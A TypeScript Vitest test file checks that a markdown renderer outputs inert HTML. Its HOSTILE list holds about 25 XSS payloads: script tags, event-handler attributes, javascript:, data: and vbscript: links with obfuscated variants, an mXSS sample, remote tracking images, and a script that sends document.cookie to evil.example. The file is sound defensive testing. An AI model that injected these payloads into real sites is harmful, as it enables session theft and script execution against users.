// @vitest-environment happy-dom
// Parsing hostile HTML makes happy-dom (unlike a browser) try to load styles and frames; the
// frame attempts still log a harmless NotSupportedError.
// @vitest-environment-options { "settings": { "handleDisabledFileLoadingAsSuccess": true } }
import { describe, expect, it } from 'vitest';
import { DEFAULT_POLICIES } from '../../../utils/guidance/default-policies';
import { renderMarkdown } from '../render-markdown';
import { fixHappyDomForDomPurify } from './happy-dom-fixes';

fixHappyDomForDomPurify();

/** Parses the output the way the panel will, so assertions see elements, not string shapes. */
function render(markdown: string) {
  const root = document.createElement('div');
  root.innerHTML = renderMarkdown(markdown);
  return root;
}

const FORBIDDEN_TAGS = 'script, img, svg, iframe, style, object, embed, link, meta, form, input';
const FORBIDDEN_URL = /^\s*(javascript|data|vbscript):/i;

function assertInert(root: HTMLElement) {
  expect(root.querySelectorAll(FORBIDDEN_TAGS)).toHaveLength(0);
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name, el.outerHTML).not.toMatch(/^on/i);
      expect(['href', 'title', 'start', 'align', 'target', 'rel'], el.outerHTML).toContain(
        attr.name,
      );
    }
    expect(el.getAttribute('href') ?? '', el.outerHTML).not.toMatch(FORBIDDEN_URL);
    for (const attr of el.attributes)
      expect(attr.value, el.outerHTML).not.toMatch(/script:|data:|evil\.example\/\w+\.png/i);
  }
}

/** Each entry is something a hostile or careless guidance author could publish. */
const HOSTILE: [string, string][] = [
  ['raw script', 'Hello <script>alert(1)</script> there'],
  ['script block', '<script>\nfetch("https://evil.example/?" + document.cookie)\n</script>'],
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['markdown javascript link', '[x](javascript:alert(1))'],
  ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['raw data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['mixed-case spaced javascript', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['entity-encoded javascript', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['tab inside javascript', '<a href="java\tscript:alert(1)">x</a>'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['remote image', '![tracking pixel](https://evil.example/x.png)'],
  ['reference image', '![alt][pic]\n\n[pic]: https://evil.example/y.png'],
  ['raw remote image', '<img src="https://evil.example/z.png">'],
  ['picture', '<picture><source srcset="https://evil.example/a.png"></picture>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['style block', '<style>body { background: url(https://evil.example/s.png) }</style>'],
  ['style attribute', '<p style="background:url(https://evil.example/b.png)">x</p>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['form', '<form action="https://evil.example"><input name=q></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['onclick on allowed tag', '<strong onclick="alert(1)">bold</strong>'],
  ['math mxss', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['autolink javascript', '<javascript:alert(1)>'],
];

describe('hostile guidance renders inert', () => {
  it.each(HOSTILE)('%s', (_name, markdown) => {
    const root = render(markdown);
    assertInert(root);
    // Text such as "javascript:alert(1)" may remain, shown as text; never as markup.
    expect(root.innerHTML).not.toMatch(/<script|onerror|onload|<img|<svg|<iframe|<style/i);
  });

  it('drops script and style contents instead of showing them as text', () => {
    const root = render('<script>alert(1)</script><style>p{}</style>Kept');
    expect(root.textContent?.trim()).toBe('Kept');
  });

  it('shows an image only as its alt text', () => {
    expect(render('![a chart](https://evil.example/x.png)').textContent?.trim()).toBe('a chart');
  });

  it.each([
    ['markdown', '[click me]()'],
    ['angle brackets', '[click me](<>)'],
    ['reference', '[click me][r]\n\n[r]: <>'],
    ['raw', '<a href="">click me</a>'],
    ['raw blank', '<a href="  ">click me</a>'],
  ])('drops an empty link target (%s), keeping the text', (_name, markdown) => {
    const root = render(markdown);
    expect(root.textContent?.trim()).toBe('click me');
    expect(root.querySelector('a')?.hasAttribute('href')).toBe(false);
    expect(root.querySelector('a')?.hasAttribute('target')).toBe(false);
  });

  it('keeps the text of a link whose address was removed', () => {
    const root = render('[click me](javascript:alert(1))');
    expect(root.textContent?.trim()).toBe('click me');
    expect(root.querySelector('a')?.hasAttribute('href')).toBe(false);
  });
});

describe('ordinary guidance keeps its formatting', () => {
  it('renders emphasis, lists, quotes and code', () => {
    const root = render(
      '# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n- one\n- two\n\n1. first\n\n> quoted',
    );
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('em')?.textContent).toBe('em');
    expect(root.querySelector('del')?.textContent).toBe('gone');
    expect(root.querySelector('code')?.textContent).toBe('code');
    expect(root.querySelectorAll('ul li')).toHaveLength(2);
    expect(root.querySelectorAll('ol li')).toHaveLength(1);
    expect(root.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
  });

  it('keeps safe raw formatting tags', () => {
    expect(render('a <b>bold</b> and <em>em</em>').querySelector('b')?.textContent).toBe('bold');
  });

  it('opens web and mail links in a new tab without an opener or referrer', () => {
    const root = render('[help](https://help.example.com/crisis) or <mailto:safety@example.com>');
    const [web, mail] = root.querySelectorAll('a');
    expect(web?.getAttribute('href')).toBe('https://help.example.com/crisis');
    expect(web?.getAttribute('target')).toBe('_blank');
    expect(web?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(mail?.getAttribute('href')).toBe('mailto:safety@example.com');
  });

  it('shows code as text, not markup', () => {
    const root = render('```\n<script>alert(1)</script>\n```');
    expect(root.querySelector('pre code')?.textContent?.trim()).toBe('<script>alert(1)</script>');
    expect(root.querySelectorAll('script')).toHaveLength(0);
  });

  it('renders every default policy with its emphasis and nothing unsafe', () => {
    for (const policy of DEFAULT_POLICIES) {
      const root = render(policy.body);
      assertInert(root);
      const expected = (policy.body.match(/\*\*[^*]+\*\*/g) ?? []).length;
      expect(root.querySelectorAll('strong'), policy.id).toHaveLength(expected);
    }
  });
});
